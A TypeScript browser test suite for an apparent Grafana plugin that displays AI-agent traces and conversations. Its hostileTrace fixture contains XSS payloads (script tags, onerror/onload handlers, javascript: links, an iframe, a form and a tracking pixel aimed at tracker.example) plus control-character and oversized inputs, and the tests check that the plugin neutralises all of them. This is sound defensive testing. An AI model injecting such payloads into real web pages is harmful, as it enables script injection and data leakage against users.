import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, type Opened, type Stage, send, sendFixtures, setStage } from './stage.ts';

const AGENT_TRACE = 'fd17bb8c3e1010b3cbc68e115e7fbb57';
const HOSTILE_TRACE = 'bad0bad0bad0bad0bad0bad0bad0bad0';
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

if (!chromiumPath) {
  process.stderr.write(
    '\nThe plugin in a browser DID NOT RUN: no Chromium here (Debian: apt-get install chromium, or set CHROMIUM_PATH).\n',
  );
}

describe.runIf(chromiumPath)('the plugin in a browser', () => {
  let stage: Stage;
  beforeAll(async () => {
    stage = await setStage();
    await sendFixtures(stage.backend);
    await send(stage.backend, JSON.stringify(hostileTrace()));
  }, 180_000);
  afterAll(() => stage?.close());

  const closed = async ({ page, errors, foreign }: Opened) => {
    expect(errors).toEqual([]);
    expect(foreign).toEqual([]);
    await page.close();
  };

  it('from a search to the trace to its conversation', async () => {
    const opened = await stage.open({ queryType: 'search', filter: `traceId = ${AGENT_TRACE}` });
    const { page } = opened;
    await page.getByTitle('Open trace').click();
    const spans = page.getByRole('region', { name: 'spans' });
    await spans.getByText('chat gpt-4o-mini').first().waitFor();
    // What the settings put into the rows of Grafana's trace view.
    await spans.getByText('$0.0000324 · 136 → 28 tokens · 2 calls').first().waitFor();
    // The link that the app registers for Grafana's trace view, and the page of the app that it leads to.
    await page.getByRole('link', { name: 'Open conversation' }).click();
    await page.getByText('It is 18C and sunny in Paris.').waitFor();
    expect(new URL(page.url()).searchParams.get('page')).toBe('conversation');
    await closed(opened);
  });

  it('the page of the app says what is missing', async () => {
    for (const [parameters, said] of [
      [{ page: 'conversation' }, 'No trace chosen'],
      [{ page: 'conversation', datasource: 'genai', traceId: 'e'.repeat(32) }, /no trace e{32}/],
    ] as const) {
      const { page } = await stage.openPage(parameters);
      await page.getByText(said).waitFor();
      await page.close();
    }
  });

  it('below a trace that was found are the spans for which it was', async () => {
    const opened = await stage.open({
      queryType: 'search',
      filter: `traceId = ${AGENT_TRACE} and operation = execute_tool`,
    });
    const { page } = opened;
    await page.getByTitle('Open trace').waitFor();
    await page.getByLabel('Expand row').first().click();
    await page.getByText('execute_tool get_weather').waitFor();
    await page.getByTitle('Open span').click();
    await page.getByRole('region', { name: 'spans' }).waitFor();
    await closed(opened);
  });

  it('an exemplar on a chart opens its trace', async () => {
    const opened = await stage.open({ queryType: 'metrics', measure: 'latency', exemplars: true });
    await opened.page
      .getByRole('button', { name: /^Open the trace of/ })
      .first()
      .click();
    await opened.page.getByRole('region', { name: 'spans' }).waitFor();
    await closed(opened);
  });

  it('agents, models and tools as a graph', async () => {
    const opened = await stage.open({ queryType: 'nodeGraph', traceId: AGENT_TRACE });
    const graph = opened.page.getByRole('img', { name: 'node graph' });
    for (const title of ['geo-bot', 'gpt-4o-mini-2024-07-18', 'get_weather'])
      await graph.getByText(title, { exact: true }).waitFor();
    await closed(opened);
  });

  it('a conversation says who said what, what it took and what it cost', async () => {
    const opened = await stage.open({ queryType: 'conversation', conversationId: AGENT_TRACE });
    const { page } = opened;
    const thread = page.getByRole('region', { name: 'conversation' });
    await thread.getByText('It is 18C and sunny in Paris.').waitFor();
    const articles = await thread.getByRole('article').allInnerTexts();
    expect(articles).toHaveLength(3);
    expect(articles[0]).toContain('Weather in Paris?');
    expect(articles[1]).toMatch(
      /get_weather[\s\S]*"city": "Paris"[\s\S]*"tempC": 18[\s\S]*52 in → 17 out[\s\S]*\$0\.000018/,
    );
    expect(articles[2]).toMatch(/84 in → 11 out \(64 cache read\)[\s\S]*\$0\.0000144[\s\S]*stop/);
    await page.getByRole('button', { name: 'costliest', exact: true }).click();
    expect(await thread.locator('article[aria-current=true]').textContent()).toContain('get_weather');
    await page.getByRole('textbox', { name: 'Search messages' }).fill('SUNNY');
    await page.getByText('1 found').waitFor();
    await page.keyboard.press('Enter');
    expect(await thread.locator('article[aria-current=true]').textContent()).toContain('It is 18C and sunny');
    await closed(opened);
  });

  it('feedback and evaluations stand beside the turn', async () => {
    const traceId = 'feedfeedfeedfeedfeedfeedfeedfeed';
    await send(stage.backend, JSON.stringify(judgedTrace(traceId)));
    const feedback = [
      { trace_id: traceId, value: -5, weight: 1 },
      { trace_id: traceId, value: 8 },
    ];
    for (const each of feedback) await send(stage.backend, JSON.stringify(each), {}, '/v1/feedback');
    const opened = await stage.open({ queryType: 'conversation', conversationId: traceId });
    const thread = opened.page.getByRole('region', { name: 'conversation' });
    await thread.getByText('feedback −5').waitFor();
    await thread.getByText('feedback +8').waitFor();
    await thread.getByText('helpfulness: good 4').waitFor();
    await thread.getByText('faithful: 0.9').waitFor();
    expect(await thread.getByRole('article').last().textContent()).toContain('faithful: 0.9');
    await closed(opened);
  });

  it('the keyboard goes through the messages, and to search', async () => {
    const opened = await stage.open({ queryType: 'conversation', conversationId: AGENT_TRACE });
    const { page } = opened;
    const thread = page.getByRole('region', { name: 'conversation' });
    await thread.focus();
    const current = () => thread.locator('article[aria-current=true]').textContent();
    await page.keyboard.press('j');
    expect(await current()).toContain('Weather in Paris?');
    await page.keyboard.press('j');
    expect(await current()).toContain('get_weather');
    await page.keyboard.press('k');
    expect(await current()).toContain('Weather in Paris?');
    await page.keyboard.press('s');
    expect(await current()).toContain('gpt-4o-mini');
    await page.keyboard.press('/');
    await page.keyboard.type('jjj');
    expect(await page.getByRole('textbox', { name: 'Search messages' }).inputValue()).toBe('jjj');
    await closed(opened);
  });

  it('a call is copied as JSON and as curl, without a key', async () => {
    const opened = await stage.open({ queryType: 'conversation', conversationId: AGENT_TRACE });
    const { page } = opened;
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    const copied = () => page.evaluate(() => navigator.clipboard.readText());
    await page.getByRole('button', { name: 'Copy JSON' }).last().click();
    await expect.poll(async () => JSON.parse(await copied())).toMatchObject({ model: 'gpt-4o-mini-2024-07-18' });
    await page.getByRole('button', { name: 'Copy curl' }).last().click();
    await expect.poll(copied).toMatch(/^curl https:[\s\S]*\$PORTKEY_API_KEY[\s\S]*Weather in Paris\?/);
    await closed(opened);
  });

  it('metrics are drawn for each group', async () => {
    const opened = await stage.open({ queryType: 'metrics', measure: 'cost', groupBy: ['model'] });
    await opened.page.getByText('claude-sonnet-4-5-20250929').waitFor();
    expect(await opened.page.locator('.uplot canvas').count()).toBe(1);
    await closed(opened);
  });

  it('a filter that cannot be read is pointed at', async () => {
    const { page } = await stage.open({ queryType: 'search', filter: 'cost >' });
    await page
      .getByRole('alert')
      .getByText(/character 7/)
      .waitFor();
    await page.close();
  });

  it('the health check says that all is well', async () => {
    const { page } = await stage.open({ queryType: 'search' });
    await page.getByRole('link', { name: 'Settings' }).click();
    await page.getByRole('button', { name: 'Save & test' }).click();
    await page.getByText('The backend answers and has traces.').waitFor();
    await page.close();
  });

  it('nothing in a message runs, nothing is loaded for it, nothing hangs', async () => {
    const opened = await stage.open({ queryType: 'conversation', conversationId: HOSTILE_TRACE });
    const { page } = opened;
    await page.getByText('the end of it').waitFor();
    const links = await page
      .locator('article a')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
    for (const link of links) expect(link).toMatch(/^(https?:|mailto:)/);
    expect(await page.locator('article').locator('img, script, iframe, object, embed, form, video').count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(await page.locator('body').textContent()).not.toContain('\u001b');
    await page
      .getByRole('button', { name: /Show more of 1\.0 MB/ })
      .first()
      .click();
    await closed(opened);
  });

  it.each(['dark', 'light'] as const)('people with assistive technology can use it, %s', async (theme) => {
    const opened = await stage.open({ queryType: 'conversation', conversationId: AGENT_TRACE }, { theme });
    await opened.page.getByText('It is 18C and sunny in Paris.').waitFor();
    expect(await violations(opened.page)).toEqual([]);
    await closed(opened);
  });
});

describe.runIf(chromiumPath)('with keys', () => {
  it('a key that is not known is told with what to do, and is never in the browser', async () => {
    const secret = 'not-the-right-secret';
    const stage = await setStage({ apiKeys: ['shop:right:read'], secretHeaders: { 'x-portkey-api-key': secret } });
    try {
      const { page } = await stage.open({ queryType: 'search' });
      await page
        .getByRole('alert')
        .getByText(/Set a key with the right to read/)
        .waitFor();
      expect(await page.content()).not.toContain(secret);
    } finally {
      await stage.close();
    }
  }, 120_000);
});

async function violations(page: Page): Promise<string[]> {
  await page.evaluate(AXE);
  return page.evaluate(async () => {
    const { axe } = globalThis as unknown as { axe: { run(scope: object, options: object): Promise<AxeResults> } };
    interface AxeResults {
      violations: { id: string; nodes: { html: string }[] }[];
    }
    const found = await axe.run(
      { include: [['[aria-label="conversation"]'], ['[aria-label="steps"]']] },
      {
        runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'],
      },
    );
    return found.violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html.slice(0, 200)}`));
  });
}

/** An agent's turn with one call; both were judged. */
function judgedTrace(traceId: string): object {
  const start = BigInt(Date.now() - 60_000) * 1_000_000n;
  const value = (any: string | number) => (typeof any === 'string' ? { stringValue: any } : { doubleValue: any });
  const attributes = (values: { readonly [key: string]: string | number }) =>
    Object.entries(values).map(([key, any]) => ({ key, value: value(any) }));
  const message = (role: string, content: string) => JSON.stringify([{ role, parts: [{ type: 'text', content }] }]);
  const span = (spanId: string, parentSpanId: string, values: object, evaluation: object) => ({
    traceId,
    spanId,
    parentSpanId,
    name: 'step',
    startTimeUnixNano: String(start),
    endTimeUnixNano: String(start + 1_000_000_000n),
    attributes: attributes(values as never),
    events: [
      { name: 'gen_ai.evaluation.result', timeUnixNano: String(start), attributes: attributes(evaluation as never) },
    ],
    status: {},
  });
  const agent = span(
    'feedfeedfeed0001',
    '',
    { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'helper' },
    {
      'gen_ai.evaluation.name': 'helpfulness',
      'gen_ai.evaluation.score.value': 4,
      'gen_ai.evaluation.score.label': 'good',
    },
  );
  const call = span(
    'feedfeedfeed0002',
    'feedfeedfeed0001',
    {
      'gen_ai.operation.name': 'chat',
      'gen_ai.request.model': 'gpt-4o',
      'gen_ai.input.messages': message('user', 'Hello?'),
      'gen_ai.output.messages': message('assistant', 'Hello!'),
    },
    { 'gen_ai.evaluation.name': 'faithful', 'gen_ai.evaluation.score.value': 0.9 },
  );
  return { resourceSpans: [{ scopeSpans: [{ spans: [agent, call] }] }] };
}

function hostileTrace(): object {
  const texts = [
    '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 2">',
    '<svg onload="globalThis.pwned = 3"><a xlink:href="javascript:globalThis.pwned=4"><text>click</text></a></svg>',
    '[a](javascript:globalThis.pwned=5) [b](data:text/html,<script>pwned=6</script>) [c](vbscript:x) [d](https://example.org/ok)',
    '![picture](https://tracker.example/pixel.png?said=secret) <iframe src="https://tracker.example"></iframe>',
    '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u202eevil',
    `${'['.repeat(5_000)}${'*_'.repeat(5_000)}${'`'.repeat(3_000)}${'> '.repeat(3_000)}`,
    'x'.repeat(1_000_000),
    '</textarea></style></script><form action="https://tracker.example"><input name=q></form>',
    'the end of it',
  ];
  const text = (content: string) => ({ type: 'text', content });
  const start = BigInt(Date.now() - 60_000) * 1_000_000n;
  const value = (stringValue: string) => ({ stringValue });
  const attributes = [
    { key: 'gen_ai.operation.name', value: value('chat') },
    { key: 'gen_ai.provider.name', value: value('openai') },
    { key: 'gen_ai.request.model', value: value('<b>gpt-4o</b>') },
    {
      key: 'gen_ai.input.messages',
      value: value(JSON.stringify([{ role: 'user', parts: texts.slice(0, 4).map(text) }])),
    },
    {
      key: 'gen_ai.output.messages',
      value: value(JSON.stringify([{ role: 'assistant', parts: texts.slice(4).map(text), finish_reason: 'stop' }])),
    },
  ];
  const span = {
    traceId: HOSTILE_TRACE,
    spanId: 'bad0bad0bad0bad0',
    name: '<img src=x onerror="globalThis.pwned = 7">',
    kind: 3,
    startTimeUnixNano: String(start),
    endTimeUnixNano: String(start + 1_000_000_000n),
    attributes,
    status: {},
  };
  return {
    resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'test' }, spans: [span] }] }],
  };
}
